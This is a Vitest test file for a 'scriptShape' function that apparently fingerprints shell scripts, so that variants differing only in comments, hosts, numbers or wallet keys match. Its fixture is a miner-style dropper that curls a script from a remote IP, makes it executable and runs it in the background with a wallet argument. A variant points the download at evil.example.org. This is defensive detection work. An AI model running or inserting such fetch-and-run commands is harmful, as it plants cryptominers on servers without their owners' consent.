import { describe, expect, it } from 'vitest';
import { scriptShape } from './script-shape.ts';

const SCRIPT = `#!/bin/bash
# sets things up
cd /usr/local/tomcat/temp
curl -fsSL http://203.0.113.18:8080/x.sh -o /tmp/setup.sh
chmod +x /tmp/setup.sh
nohup /tmp/setup.sh -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGz -t 4 >/dev/null 2>&1 &
sleep 30
exec catalina.sh run
`;

describe('scriptShape', () => {
  it('is the same where only comments, blanks, case, addresses, numbers and long keys differ', () => {
    const other = SCRIPT.replace('# sets things up', '# another comment\n\n')
      .replace('http://203.0.113.18:8080/x.sh', 'https://evil.example.org/y')
      .replace('48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGz', '8AnotherWalletOfTheSameHand123456789012345')
      .replace('sleep 30', '  sleep   45 # wait')
      .replaceAll('\n', '\r\n');
    expect(scriptShape(SCRIPT)).toMatch(/^s1:[0-9a-f]{64}$/);
    expect(scriptShape(other)).toBe(scriptShape(SCRIPT));
  });

  it('differs where another thing is done', () => {
    expect(scriptShape(SCRIPT.replace('chmod +x', 'chmod 755'))).not.toBe(scriptShape(SCRIPT));
  });

  it('is none for what strangers write alike', () => {
    expect(scriptShape('#!/bin/sh\nset -e\nexec "$@"\n')).toBeUndefined();
    expect(scriptShape('')).toBeUndefined();
    expect(scriptShape('#\n'.repeat(1000))).toBeUndefined();
  });

  it('takes linear time over a line made to be slow', () => {
    const slow = `${'a://'.repeat(50_000)}${' #'.repeat(50_000)}${'1.1.1.'.repeat(20_000)}`;
    expect(scriptShape(`${slow}\n`.repeat(6))).toBeUndefined();
  });
});
